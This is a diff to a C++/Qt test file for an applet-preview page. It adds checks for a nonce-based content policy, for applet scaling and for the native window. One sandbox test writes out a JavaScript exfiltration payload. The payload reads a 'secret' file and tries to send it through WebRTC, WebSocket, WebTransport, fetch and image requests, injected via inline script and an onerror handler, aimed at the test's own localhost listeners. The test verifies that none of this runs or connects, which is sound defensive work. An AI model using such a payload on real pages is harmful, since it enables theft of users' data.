@@ -5,8 +5,11 @@
 #include <QTabWidget>
 #include <QTcpServer>
 #include <QTest>
+#include <QUdpSocket>
+#include <QWindow>
 
 #include "app/preview_page.h"
+#include "app/preview_sandbox.h"
 #include "tests/app/main_window_fixture.h"
 #include "tests/app/web_test_support.h"
 
@@ -60,11 +63,18 @@ TEST_F(PreviewTest, PlaysTheTestPageAndFollowsEdits) {
   EXPECT_EQ(pagePath.find(fx.required()), std::string::npos);
   EXPECT_EQ(pagePath.find(fx.temp()), std::string::npos);
   const std::string text = readFileBytes(pagePath);
-  EXPECT_NE(text.find("<HTML>\r\n  <HEAD><META CHARSET=\"utf-8\"></HEAD>\r\n  <BODY BGCOLOR=\"#000000\">\r\n"
-                      "    <P ALIGN=\"CENTER\">\r\n"
+  // One head: its character set, then the policy that lets only the
+  // player, by its nonce, run.
+  const size_t nonceAt = text.find("script-src 'nonce-");
+  ASSERT_NE(nonceAt, std::string::npos) << text;
+  const std::string nonce = text.substr(nonceAt + 18, 32);
+  const std::string policy = previewPolicyHead(nonce);
+  EXPECT_NE(text.find("<HTML>\r\n  <HEAD><META CHARSET=\"utf-8\">" + policy.substr(6) +
+                      "\r\n  <BODY BGCOLOR=\"#000000\">\r\n    <P ALIGN=\"CENTER\">\r\n"
                       "      <APPLET CODE=\"fade.class\" WIDTH=80 HEIGHT=60>\r\n"),
-            std::string::npos);
-  EXPECT_NE(text.find("<SCRIPT SRC=\"glimmerax-player.js\"></SCRIPT>"), std::string::npos);
+            std::string::npos)
+      << text;
+  EXPECT_NE(text.find("<SCRIPT NONCE=\"" + nonce + "\" SRC=\"glimmerax-player.js\"></SCRIPT>"), std::string::npos);
   EXPECT_TRUE(fileExists(folderOf(pagePath) + "first.jpg"));
   EXPECT_TRUE(fileExists(folderOf(pagePath) + "second.jpg"));
 
@@ -208,6 +218,129 @@ TEST_F(PreviewTest, NeverReachesTheNetwork) {
   runScript(view(), outside.toStdString());
   EXPECT_TRUE(QTest::qWaitFor([&] { return !scriptText("window.fetched||''").isEmpty(); }, 5000));
   EXPECT_EQ(scriptText("window.fetched"), QStringLiteral("no"));
+}
+
+// A large applet is shrunk to fit the screen whole, keeping its shape, and
+// the page says so; one that fits is shown at its size without a word.
+TEST_F(PreviewTest, ALargeAppletIsShrunkToFitAndSaysSo) {
+  const std::string large = writeGradientJpeg(pictures / "large.jpg", 1200, 900, qRgb(200, 200, 40));
+  start();
+  addImages({large, second});
+  showPreview();
+  drawnCanvas();
+  const PreviewScale scale = page().scale();
+  ASSERT_LT(scale.percent, 100);
+  EXPECT_GT(scale.percent, 25);
+  EXPECT_EQ(page().scaleLabel()->text().toStdString(), "shown at " + std::to_string(scale.percent) + " %");
+  // The page is drawn at that scale, and all of it is on screen: no scroll bars.
+  const QSize screen = page().playerView()->widget()->size();
+  const QStringList seen =
+      scriptText("[Math.round(devicePixelRatio*100), Math.abs(innerWidth - document.documentElement.clientWidth) < 2,"
+                 " Math.abs(innerHeight - document.documentElement.clientHeight) < 2,"
+                 " Math.round(document.querySelector('canvas').getBoundingClientRect().width),"
+                 " Math.round(document.querySelector('canvas').getBoundingClientRect().height)].join()")
+          .split(QLatin1Char(','));
+  ASSERT_EQ(seen.size(), 5) << seen.join(QLatin1Char(',')).toStdString();
+  EXPECT_EQ(seen[0].toInt(), std::lround(scale.factor * 100));
+  EXPECT_EQ(seen[1], QStringLiteral("true"));  // no room taken by a scroll bar, but for rounding
+  EXPECT_EQ(seen[2], QStringLiteral("true"));
+  EXPECT_EQ(seen[3].toInt(), 1200);  // the applet keeps its size in the page, and its shape
+  EXPECT_EQ(seen[4].toInt(), 900);
+  EXPECT_LE(1200 * scale.factor, screen.width());
+  EXPECT_LE(900 * scale.factor, screen.height());
+
+  // An applet that fits: its own size, nothing said.
+  QSignalSpy loaded(&page(), &PreviewPage::pageLoaded);
+  doc().imageNames = {"first.jpg", "second.jpg"};
+  doc().imagePaths = {first, second};
+  ASSERT_TRUE(loaded.wait(10000));
+  EXPECT_EQ(page().scale(), PreviewScale());
+  EXPECT_TRUE(page().scaleLabel()->text().isEmpty());
+  EXPECT_EQ(scriptText("String(Math.round(devicePixelRatio*100))"), QStringLiteral("100"));
+}
+
+// The web view arriving with the first switch to the page does not make
+// the window's native window again (the window would go black meanwhile).
+TEST_F(PreviewTest, TheFirstSwitchKeepsTheWindowsNativeWindow) {
+  start();
+  addImages({first, second});
+  ASSERT_TRUE(QTest::qWaitForWindowExposed(window.get()));
+  QWindow* native = window->windowHandle();
+  ASSERT_NE(native, nullptr);
+  bool remade = false;
+  QObject::connect(native, &QObject::destroyed, [&] { remade = true; });
+  showPreview();
+  drawnCanvas();
+  EXPECT_FALSE(remade);
+  EXPECT_EQ(window->windowHandle(), native);
+}
+
+// A project from a stranger: its second image is a "secret" the page's own
+// scripts would read and send to listeners on this machine, by every way a
+// page has (WebRTC's TURN over TCP and STUN over UDP, WebSocket, fetch, an
+// image, a handler on an element).
+TEST_F(PreviewTest, OnlyThePlayerRunsAndNothingConnects) {
+  QTcpServer tcp;
+  ASSERT_TRUE(tcp.listen(QHostAddress::LocalHost, 0));
+  QUdpSocket udp;
+  ASSERT_TRUE(udp.bind(QHostAddress::LocalHost, 0));
+  const std::string tcpPort = std::to_string(tcp.serverPort());
+  const std::string udpPort = std::to_string(udp.localPort());
+  const std::string secret = pictures / "pw.gif";
+  writeFileAtomic(secret, readFileBytes(std::string(GLX_PRINT_FIXTURES) + "sun.gif"));
+  // Sends what it is given to both listeners in every way it can; each try
+  // on its own, so one refusal does not stop the others.
+  const std::string send =
+      "function leak(text){var n=0;function t(f){try{f();n++;}catch(e){}}"
+      "t(function(){var pc=new RTCPeerConnection({iceServers:["
+      "{urls:'turn:127.0.0.1:" + tcpPort + "?transport=tcp',username:text.slice(0,64),credential:'x'},"
+      "{urls:'turn:127.0.0.1:" + udpPort + "?transport=udp',username:text.slice(0,64),credential:'x'},"
+      "{urls:'stun:127.0.0.1:" + udpPort + "'}],iceTransportPolicy:'all'});"
+      "pc.createDataChannel('d');pc.createOffer().then(function(o){return pc.setLocalDescription(o);});});"
+      "t(function(){new WebSocket('ws://127.0.0.1:" + tcpPort + "/'+encodeURIComponent(text.slice(0,64)));});"
+      "t(function(){new WebTransport('https://127.0.0.1:" + udpPort + "/');});"
+      "t(function(){fetch('http://127.0.0.1:" + tcpPort + "/'+encodeURIComponent(text.slice(0,64))).catch(function(){});});"
+      "t(function(){new Image().src='http://127.0.0.1:" + tcpPort + "/i';});"
+      "return n;}";
+  const std::string alternative =
+      "<P ID=\"alt\">Get a browser that plays applets.</P>\n"
+      "<IMG SRC=\"nothing-here.gif\" ONERROR=\"window.handlerRan='yes';" + send + ";leak('onerror')\">\n"
+      "<SCRIPT>window.inlineRan='yes';" + send +
+      ";fetch('pw.gif').then(function(r){return r.text();}).then(leak,function(){leak('inline');});</SCRIPT>";
+
+  start();
+  addImages({first, secret});
+  doc().alternativeHtml = alternative;
+  showPreview();
+
+  // The player plays.
+  const QByteArray before = drawnCanvas();
+  EXPECT_EQ(before.size(), 80 * 60 * 4);
+  EXPECT_TRUE(QTest::qWaitFor([&] { return canvasPixels(view()) != before; }, 5000));
+  // The markup is in the page as written; its script and its handler did
+  // not run.
+  const std::string text = readFileBytes(page().pagePath());
+  EXPECT_NE(text.find("<P ID=\"alt\">Get a browser that plays applets.</P>"), std::string::npos);
+  EXPECT_NE(text.find("<SCRIPT>window.inlineRan='yes';"), std::string::npos);
+  EXPECT_EQ(scriptText("String(window.inlineRan)"), QStringLiteral("undefined"));
+  EXPECT_EQ(scriptText("String(window.handlerRan)"), QStringLiteral("undefined"));
+
+  // A script that got in anyway finds no way out: the interfaces that open
+  // connections of their own are gone, in frames too, and the rest is
+  // refused.
+  EXPECT_EQ(scriptText("[typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof WebTransport,"
+                       " typeof WebSocket].join()"),
+            QStringLiteral("undefined,undefined,undefined,undefined"));
+  runScript(view(), "var f=document.createElement('iframe');document.body.appendChild(f);var w=f.contentWindow;"
+                    "var g=w.document.createElement('iframe');w.document.body.appendChild(g);var v=g.contentWindow;"
+                    "window.framed=[typeof w.RTCPeerConnection,typeof w.WebSocket,typeof v.RTCPeerConnection].join();");
+  EXPECT_EQ(scriptText("window.framed"), QStringLiteral("undefined,undefined,undefined"));
+  runScript(view(), send + "window.tried=leak('from the embedder');");
+  EXPECT_EQ(scriptText("String(window.tried)"), QStringLiteral("2"));  // fetch and the image, both refused
+
+  QTest::qWait(1500);
+  EXPECT_FALSE(tcp.hasPendingConnections());
+  EXPECT_FALSE(udp.hasPendingDatagrams());
 }
 
 }  // namespace
